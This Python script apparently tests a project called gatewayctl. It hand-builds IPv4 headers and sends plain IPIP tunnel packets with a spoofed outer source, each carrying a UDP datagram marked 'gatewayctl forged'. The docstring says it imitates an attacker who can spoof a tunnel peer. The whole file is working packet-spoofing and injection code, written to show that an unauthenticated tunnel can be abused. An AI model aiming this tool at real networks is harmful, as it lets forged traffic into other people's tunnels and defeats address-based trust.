#!/usr/bin/python3
"""forge-ipip.py OUTER_SRC OUTER_DST INNER_SRC INNER_DST PORT [COUNT]

Sends COUNT (default 3) plain IPIP packets (IP protocol 4) whose outer header claims
OUTER_SRC, each carrying an IPv4/UDP datagram INNER_SRC:PORT -> INNER_DST:PORT with the
payload "gatewayctl forged". What an attacker who can spoof the peer's endpoint does.
A raw socket with the header included (IPPROTO_RAW): needs root (CAP_NET_RAW).
"""
import socket
import struct
import sys
import time


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ipv4(src, dst, proto, payload, ident):
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, 0x4000,
                      64, proto, 0, socket.inet_aton(src), socket.inet_aton(dst))
    hdr = hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:]
    return hdr + payload


def main():
    if len(sys.argv) not in (6, 7):
        print(__doc__.strip(), file=sys.stderr)
        return 2
    osrc, odst, isrc, idst, port = sys.argv[1:6]
    count = int(sys.argv[6]) if len(sys.argv) == 7 else 3
    port = int(port)
    data = b"gatewayctl forged"
    udp = struct.pack("!HHHH", port, port, 8 + len(data), 0) + data  # no UDP checksum
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(count):
        inner = ipv4(isrc, idst, 17, udp, 0x4000 + i)
        outer = ipv4(osrc, odst, 4, inner, 0x5000 + i)
        s.sendto(outer, (odst, 0))
        time.sleep(0.05)
    return 0


if __name__ == "__main__":
    sys.exit(main())
